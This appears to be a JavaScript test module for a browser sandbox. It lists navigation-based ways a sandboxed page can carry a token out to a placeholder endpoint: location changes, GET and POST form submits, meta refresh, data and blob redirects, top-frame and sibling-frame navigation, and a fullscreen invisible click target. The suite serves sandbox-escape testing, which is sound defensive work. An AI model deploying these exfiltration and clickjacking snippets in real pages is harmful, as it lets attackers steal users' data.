import { attacksOf } from '../attack.js';

/** Leaving: the request of a navigation carries data like any other. */
export const navigation = attacksOf('navigation', {
  'location set': `location.href = $.http;`,
  'location assigned': `location.assign($.http);`,
  'location replaced': `location.replace($.http);`,
  'navigation API': `navigation.navigate($.http);`,
  'window opened on itself': `window.open($.http, '_self');`,
  'anchor clicked by script': `$.put('a', { href: $.http }).click();`,
  'anchor clicked by a person': { code: `$.cover('<a href="' + $.http + '">x</a>');`, poke: 'click' },
  'meta refresh': `$.put('meta', { httpEquiv: 'refresh', content: '0;url=' + $.http });`,
  'form sent by GET': `$.html('<form action="' + $.http + '"><input name="data" value="' + $.token + '"></form>'); document.forms[0].submit();`,
  'form sent by POST': `$.html('<form method="post" action="' + $.http + '"><input name="data" value="' + $.token + '"></form>'); document.forms[0].requestSubmit();`,
  'form button pressed': { code: `$.cover('<form method="post"><button formaction="' + $.http + '" style="position:fixed;inset:0;width:100%">x</button></form>');`, poke: 'click' },
  'to a sibling of localhost': `location.href = $.near;`,
  'to a name on the way': `location.href = 'http://' + $.dns + '/';`,
  'to a port of its own': `location.href = 'http://127.0.0.1:' + $.tcp + '/';`,
  'to a data document that goes on': `location.href = 'data:text/html,<meta http-equiv="refresh" content="0;url=' + $.http + '">';`,
  'to a blob that goes on': `location.href = URL.createObjectURL(new Blob(['<meta http-equiv="refresh" content="0;url=' + $.http + '">'], { type: 'text/html' }));`,
  'child frame’s location': `const frame = document.createElement('iframe'); document.body.append(frame); frame.contentWindow.location = $.http;`,
  'the host navigated': { code: `top.location.href = $.http;`, scene: 'alone' },
  'the host navigated by a person': { onPoke: `top.location.href = $.http;`, poke: 'click', scene: 'alone' },
  'the host navigated by an anchor': { code: `$.cover('<a target="_top" href="' + $.http + '">x</a>');`, poke: 'click', scene: 'alone' },
  'the host navigated by a form': { code: `$.html('<form target="_parent" action="' + $.http + '"></form>'); document.forms[0].submit();`, scene: 'alone' },
  'the host’s hash': { code: `top.location.hash = $.token; await $.wait(100); parent.location.replace(document.referrer.split('#')[0] + '#' + $.token);`, proof: 'page', scene: 'alone' },
  'a sibling navigated by its name': `window.name = 'vc' + $.token; const other = [...Array(parent.length).keys()].map((index) => parent[index]).find((one) => one !== window); try { other.name = 'victim' + $.token; } catch {} window.open($.http, 'victim' + $.token);`,
});
